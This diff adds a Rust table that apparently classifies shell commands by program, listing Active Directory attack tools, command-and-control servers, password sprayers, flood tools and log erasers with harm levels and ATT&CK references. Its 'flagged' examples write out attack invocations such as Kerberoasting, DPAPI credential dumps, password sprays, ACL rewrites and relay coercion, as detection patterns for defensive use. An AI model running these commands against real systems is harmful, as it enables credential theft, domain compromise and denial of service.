@@ -1,0 +1,204 @@
+//! Attack tools of Active Directory and Windows networks, and the
+//! command-and-control servers, sprayers and floods of red teams' kits: one
+//! row per tool family, so that a script run as `python3 NAME.py`,
+//! `impacket-NAME` or `NAME.exe` is known by its name (`crate::program`
+//! strips the extension and the packaging prefix).
+//!
+//! Sources: impacket's `examples/` directory (fortra/impacket at f133bb8,
+//! each script's own description; the enumeration scripts, `lookupsid`,
+//! `samrdump`, `rpcdump`, `GetADUsers`, `findDelegation`, `netview`..., are
+//! left out: they read a directory any domain user may read), the tools'
+//! repositories named in each row, and the two red-team sheets first read
+//! in session 49 (A-poc/RedTeam-Tools, RistBS/Awesome-RedTeam-Cheatsheet),
+//! whose misses named the gap: impacket's Kerberos and DPAPI scripts and a
+//! dozen other kits' tools passed unasked.
+
+use crate::programs::{always, P};
+use crate::Harm::{Credential, Destructive, Evasion, Exfiltration, RemoteCode, SelfEscalation};
+use crate::Level::{High, Medium};
+use crate::{Program, Sub};
+
+/// The table. Keep rows grouped by what the tools do.
+pub const AD_ATTACKS: &[Program] = &[
+    Program {
+        names: &[
+            "getuserspns", "getnpusers", "describeticket", "kintercept", "keylistattack",
+            "targetedkerberoast", "getnthash", "asktgs", "kirbikator", "tgsrepcrack",
+        ],
+        source: "impacket examples (GetUserSPNs: Kerberoasting; GetNPUsers: AS-REP roasting; describeTicket: a ticket decrypted with its service's key; kintercept; keylistattack: KERB-KEY-LIST-REQ secrets), https://github.com/ShutdownRepo/targetedKerberoast, https://github.com/dirkjanm/PKINITtools (getnthash: an account's NT hash from its certificate's ticket), kekeo's asktgs and kirbikator (tickets requested with a forged one, injected), https://github.com/nidem/kerberoast (tgsrepcrack); ATT&CK T1558.003, T1558.004, T1550.003",
+        subs: &[Sub { words: &["!-h|--help"], harm: Credential, level: High, reason: "roasts, cracks, decrypts or injects Kerberos tickets (credential theft)" }],
+        flagged: &[
+            "GetUserSPNs.py corp.local/user:pass -dc-ip 10.0.0.1 -request",
+            "impacket-GetNPUsers corp.local/ -usersfile users.txt -no-pass -format hashcat",
+            "asktgs path/to/trust_ticket.kirbi CIFS/ps-dc.powershell.local",
+            "python tgsrepcrack.py wordlist.txt 1-MSSQLSvc~sql01.corp.local~1433-CORP.LOCAL.kirbi",
+        ],
+        clean: &["GetUserSPNs.py -h"],
+        ..P
+    },
+    Program {
+        names: &["gettgt", "getst", "getpac", "ticketconverter", "gettgtpkinit"],
+        source: "impacket examples getTGT and getST (a ticket requested with a password, hash or key; getST's -impersonate asks one in another user's name: S4U), getPac, ticketConverter (kirbi and ccache converted), https://github.com/dirkjanm/PKINITtools (gettgtpkinit: a ticket from a certificate); ATT&CK T1550.003, T1558",
+        subs: &[Sub { words: &["!-h|--help"], harm: Credential, level: Medium, reason: "requests or converts Kerberos tickets that log in as the account elsewhere" }],
+        flagged: &[
+            "getTGT.py -dc-ip 10.0.0.1 corp.local/user:pass",
+            "getST.py -k -impersonate Administrator corp.local/svc -spn cifs/dc01.corp.local",
+        ],
+        clean: &["getTGT.py -h"],
+        ..P
+    },
+    Program {
+        names: &[
+            "dpapi", "dpapidump", "regsecrets", "get-gpppassword", "getlapspassword", "gmsadumper",
+            "dploot", "donpapi", "pcredz", "adfspoof", "shocknawe", "dpapimk2john",
+        ],
+        source: "impacket examples (dpapi: master keys, credentials and vaults decrypted; dpapidump: SYSTEM's DPAPI secrets of a remote host; regsecrets: SAM and LSA secrets read remotely; Get-GPPPassword; GetLAPSPassword), https://github.com/micahvandeusen/gMSADumper, https://github.com/zblurx/dploot, https://github.com/login-securite/DonPAPI, https://github.com/lgandx/PCredz (credentials carved from captures or an interface), https://github.com/mandiant/ADFSpoof and https://github.com/mandiant/shocknawe (AD FS signing keys: Golden SAML), John the Ripper's DPAPImk2john; ATT&CK T1555.004, T1552.006, T1003.004, T1606.002",
+        subs: &[Sub { words: &["!-h|--help"], harm: Credential, level: High, reason: "dumps stored credentials (DPAPI, LAPS, GPP and gMSA passwords, AD FS keys, captured logins)" }],
+        flagged: &[
+            "dpapi.py masterkey -file mk -pvk backup_key.pvk",
+            "dpapi.py backupkeys -t corp/admin:pass@10.0.0.1",
+            "python3 gMSADumper.py -u user -p pass -d corp.local",
+            "dploot backupkey -d waza.local -u Administrator -p 'Password!123' 192.168.56.112 -quiet",
+            "python3 ./Pcredz -i eth0 -v",
+            "python ADFSpoof.py -b EncryptedPfx.bin DKMkey.bin dump",
+        ],
+        clean: &["dpapi.py -h"],
+        ..P
+    },
+    Program {
+        names: &[
+            "credmaster", "trevorspray", "sprayhound", "o365spray", "msolspray",
+            "domainpasswordspray", "atomizer",
+        ],
+        source: "https://github.com/knavesec/CredMaster, https://github.com/blacklanternsecurity/TREVORspray (--recon only enumerates), https://github.com/Hackndo/sprayhound, https://github.com/0xZDH/o365spray, https://github.com/dafthack/MSOLSpray, https://github.com/dafthack/DomainPasswordSpray, https://github.com/byt3bl33d3r/SprayingToolkit (atomizer); ATT&CK T1110.003",
+        subs: &[Sub { words: &["!--recon|--enum|--validate|-h|--help"], harm: Credential, level: Medium, reason: "tests passwords against many accounts (a password spray)" }],
+        flagged: &[
+            "python3 ./trevorspray -u emails.txt -p 'Welcome123' --url https://login.windows.net/x/oauth2/token",
+            "python3 credmaster.py --config config.json",
+            "sprayhound -U users.txt -p Winter2024 -d corp.local -dc 10.0.0.1",
+        ],
+        clean: &["python3 ./trevorspray --recon evilcorp.com", "python3 o365spray.py --validate --domain example.com"],
+        ..P
+    },
+    Program {
+        names: &["changepasswd", "samedit", "badsuccessor", "raisechild", "privexchange", "wmipersist"],
+        source: "impacket examples (changepasswd: an account's password changed or reset; samedit: a local user's password replaced in the SAM hive; badsuccessor: dMSA abuse; raiseChild: a child domain's admin raised to the forest's; wmipersist: a WMI event consumer that runs a script), https://github.com/dirkjanm/PrivExchange; ATT&CK T1098, T1546.003, T1484",
+        subs: &[Sub { words: &["!-h|--help"], harm: SelfEscalation, level: High, reason: "changes Active Directory accounts or their rights (an escalation or persistence step)" }],
+        flagged: &[
+            "python3 privexchange.py -d corp -u user -p pass -ah 10.0.0.5 mx.corp.local",
+            "raiseChild.py child.corp.local/admin:pass",
+            "changepasswd.py corp.local/victim@dc01 -newpass 'N3w!' -altuser admin -altpass pass -reset",
+        ],
+        clean: &["raiseChild.py -h"],
+        ..P
+    },
+    Program {
+        names: &["addcomputer", "addspn", "dnstool"],
+        source: "impacket's addcomputer (a machine account added to the domain: any user may add ten, the first step of resource-based delegation attacks), https://github.com/dirkjanm/krbrelayx (addspn, dnstool: SPNs and DNS records written into the directory); ATT&CK T1136.002, T1098",
+        subs: &[Sub { words: &["!-h|--help"], harm: SelfEscalation, level: Medium, reason: "adds accounts, service names or DNS records to Active Directory" }],
+        flagged: &[
+            "addcomputer.py -computer-name 'EVIL$' -computer-pass 'P@ss' -dc-ip 10.0.0.1 corp.local/user:pass",
+            "python3 dnstool.py -u 'corp\\user' -p pass -r evil.corp.local -a add -d 10.0.0.5 10.0.0.1",
+        ],
+        clean: &["addcomputer.py -h"],
+        ..P
+    },
+    Program {
+        names: &["dacledit", "owneredit", "rbcd"],
+        source: "impacket examples dacledit, owneredit and rbcd (-action read, the default, prints an object's DACL, owner or delegation; write, remove, flush and restore change them: ATT&CK T1222.001, T1134)",
+        subs: &[Sub { words: &["-action write|remove|flush|restore"], harm: SelfEscalation, level: High, reason: "changes an Active Directory object's access rights (an escalation step)" }],
+        flagged: &[
+            "dacledit.py -action write -rights FullControl -principal user -target-dn 'DC=corp,DC=local' corp.local/user:pass",
+            "rbcd.py -delegate-from 'EVIL$' -delegate-to 'DC01$' -action write corp.local/user:pass",
+        ],
+        clean: &["dacledit.py -target admin corp.local/user:pass", "rbcd.py -delegate-to 'DC01$' -action read corp.local/user:pass"],
+        ..P
+    },
+    Program {
+        names: &["pywhisker"],
+        source: "https://github.com/ShutdownRepo/pywhisker (--action add writes a key credential onto an account: shadow credentials, ATT&CK T1556; list and info read)",
+        subs: &[Sub { words: &["--action add|remove|clear|import"], harm: SelfEscalation, level: High, reason: "adds a key credential to an account (shadow credentials)" }],
+        flagged: &["pywhisker.py -d corp.local -u user -p pass --target admin --action add"],
+        clean: &["pywhisker.py -d corp.local -u user -p pass --target admin --action list"],
+        ..P
+    },
+    Program {
+        names: &["coercer", "petitpotam", "printerbug", "dementor", "krbrelayx", "smbrelayx"],
+        source: "https://github.com/p0dalirius/Coercer, https://github.com/topotam/PetitPotam, krbrelayx's printerbug, dementor, impacket's smbrelayx and https://github.com/dirkjanm/krbrelayx (a host made to authenticate to this one, its login relayed or captured: ATT&CK T1187, T1557.001)",
+        subs: &[Sub { words: &["!-h|--help"], harm: Credential, level: High, reason: "makes a host authenticate to this one and captures or relays its login" }],
+        flagged: &["coercer coerce -u user -p pass -d corp.local -l 10.0.0.5 -t 10.0.0.1", "python3 PetitPotam.py 10.0.0.5 10.0.0.1"],
+        clean: &["coercer -h"],
+        ..P
+    },
+    Program {
+        names: &["goldenpac", "sambapipe", "proxylogon", "proxyshell"],
+        source: "impacket examples goldenPac (MS14-068: a forged PAC, then a SYSTEM shell on the target) and sambaPipe (CVE-2017-7494: a shared library uploaded and run), ProxyLogon/ProxyShell exploit scripts (CVE-2021-26855, CVE-2021-34473); ATT&CK T1210",
+        subs: &[Sub { words: &["!-h|--help"], harm: RemoteCode, level: High, reason: "exploits a server to run code on it" }],
+        flagged: &["goldenPac.py corp.local/user:pass@dc01.corp.local", "python proxylogon.py 10.0.0.5 user@corp.local"],
+        clean: &["goldenPac.py -h"],
+        ..P
+    },
+    Program {
+        names: &["karmasmb"],
+        // impacket's sniff.py and sniffer.py are left out: `sniffer` is
+        // also Python's test watcher.
+        source: "impacket examples karmaSMB (an SMB server answering any read with chosen content: clients that connect hand it their logins); ATT&CK T1557",
+        subs: &[Sub { words: &["!-h|--help"], harm: Credential, level: Medium, reason: "serves a rogue file share (the logins of clients that connect pass through it)" }],
+        flagged: &["sudo python3 karmaSMB.py -config karma.conf"],
+        clean: &["karmaSMB.py -h"],
+        ..P
+    },
+    Program {
+        names: &[
+            "teamserver", "merlinserver", "merlinserver-linux", "sliver-server", "hoaxshell",
+            "villain", "pupysh", "posh-server", "mythic-cli", "powershell-empire", "starkiller",
+        ],
+        source: "Cobalt Strike's and Havoc's teamserver, https://github.com/Ne0nd0g/merlin, https://github.com/BishopFox/sliver, https://github.com/t3l3machus/hoaxshell and Villain, https://github.com/n1nj4sec/pupy, https://github.com/nettitude/PoshC2, https://github.com/its-a-feature/Mythic, https://github.com/BC-SECURITY/Empire (command-and-control servers: implants on other hosts connect back and take commands; ATT&CK T1071, T1219)",
+        subs: &[Sub { words: &["!-h|--help|--version", "!version|help"], harm: Exfiltration, level: High, reason: "runs a command-and-control server (implants on other hosts connect to it)" }],
+        flagged: &["sudo ./teamserver server --profile ./profiles/havoc.yaotl -v", "sudo python3 hoaxshell.py -s 10.0.0.5", "sliver-server daemon"],
+        clean: &["sliver-server version", "hoaxshell.py -h"],
+        ..P
+    },
+    Program {
+        names: &["nimplant"],
+        source: "https://github.com/chvancooten/NimPlant (compile builds implants; server starts the command-and-control server)",
+        subs: &[Sub { words: &["server"], harm: Exfiltration, level: High, reason: "runs a command-and-control server (implants on other hosts connect to it)" }],
+        flagged: &["python NimPlant.py server", "python3 ./NimPlant.py server"],
+        clean: &["python NimPlant.py compile all"],
+        ..P
+    },
+    Program {
+        names: &["slowloris", "slowhttptest", "goldeneye", "thc-ssl-dos", "t50"],
+        source: "https://github.com/gkbrk/slowloris, https://github.com/shekyan/slowhttptest, https://github.com/jseidl/GoldenEye, THC's thc-ssl-dos, t50 (floods and slow-request attacks that take a service down: ATT&CK T1498, T1499)",
+        subs: &[Sub { words: &["!-h|--help"], harm: Destructive, level: Medium, reason: "floods a host with requests (a denial of service)" }],
+        flagged: &["slowloris example.com", "python3 slowloris.py example.com", "slowhttptest -c 1000 -H -u https://example.com"],
+        clean: &["slowloris -h"],
+        ..P
+    },
+    Program {
+        names: &["moonwalk"],
+        source: "https://github.com/mufeedvh/moonwalk (start records the logs' and file times' state; finish restores it, erasing what happened in between: ATT&CK T1070)",
+        subs: &[Sub { words: &["finish"], harm: Evasion, level: Medium, reason: "erases the traces left in logs and file times since it started" }],
+        flagged: &["moonwalk finish"],
+        clean: &["moonwalk start"],
+        ..P
+    },
+    Program {
+        names: &["usbkill"],
+        source: "https://github.com/hephaest0s/usbkill (an anti-forensic kill switch: the machine shuts down when a USB device is plugged or unplugged)",
+        subs: &[always(Destructive, Medium, "arms a kill switch that shuts the machine down on any USB change")],
+        flagged: &["sudo python3 usbkill.py"],
+        ..P
+    },
+    Program {
+        names: &["eviltree"],
+        source: "https://github.com/t3l3machus/eviltree (a tree that prints the lines of files matching a regular expression or keywords: -x and -k search the files for passwords)",
+        subs: &[
+            Sub { words: &["-x"], harm: Credential, level: Medium, reason: "searches files for passwords and prints the lines it finds" },
+            Sub { words: &["-k"], harm: Credential, level: Medium, reason: "searches files for passwords and prints the lines it finds" },
+        ],
+        flagged: &["python3 eviltree.py -r /var/www -x \".{0,3}passw.{0,3}[=]{1}.{0,18}\" -v", "python3 eviltree.py -r /home -k passw,admin -v"],
+        clean: &["python3 eviltree.py -r ."],
+        ..P
+    },
+];
